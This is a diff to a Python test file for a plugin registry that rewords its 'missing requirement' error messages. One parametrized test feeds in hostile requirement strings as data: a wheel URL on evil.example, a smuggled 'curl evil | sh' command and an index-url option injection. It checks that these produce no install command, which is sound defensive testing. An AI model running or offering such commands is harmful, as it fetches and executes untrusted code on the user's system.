@@ -302,7 +302,7 @@ def test_only_our_own_distributions_get_a_command(distribution: str, text: str) 
 @pytest.mark.parametrize("requirement", ["x @ https://evil.example/x.whl", "x; curl evil | sh", "--index-url=evil x"])
 def test_a_requirement_that_is_no_plain_name_gets_no_command(install: Install, requirement: str) -> None:
     install("good", plugin_source(requires=(requirement,)))
-    assert Registry().find("detector", "nice").problem == f"missing requirement: {requirement!r}"
+    assert Registry().find("detector", "nice").problem == f"needs the requirement {requirement!r}"
 
 
 def test_a_name_must_be_text() -> None:
@@ -424,10 +424,10 @@ def test_missing_requirement_and_newer_contract_are_states(install: Install) -> 
     registry = Registry()
     lacking = registry.find("detector", "nice")
     assert lacking.problem is not None
-    assert "missing requirement: pip install" in lacking.problem
+    assert "needs pip install" in lacking.problem
     assert "no-such-thing>=3" in lacking.problem
     assert "numpy" not in lacking.problem
-    with pytest.raises(PluginError, match=r"detector 'nice' cannot run: missing requirement"):
+    with pytest.raises(PluginError, match=r"detector 'nice' cannot run: needs pip install"):
         load_target(lacking)
     assert registry.find("detector", "modern").problem == (
         f"needs plugin contract {API_VERSION + 1}, this asd-framework has {API_VERSION}: upgrade it"
@@ -469,8 +469,7 @@ def test_a_missing_requirement_is_told_with_what_does_without(install: Install) 
     with pytest.raises(PluginError) as raised:
         load_target(Registry().find("detector", "nice"))
     assert str(raised.value) == (
-        "detector 'nice' cannot run: missing requirement: pip install 'no-such-thing'; "
-        "or use plain, which does the same without"
+        "detector 'nice' cannot run: needs pip install 'no-such-thing'; or use plain, which does the same without"
     )
 
 
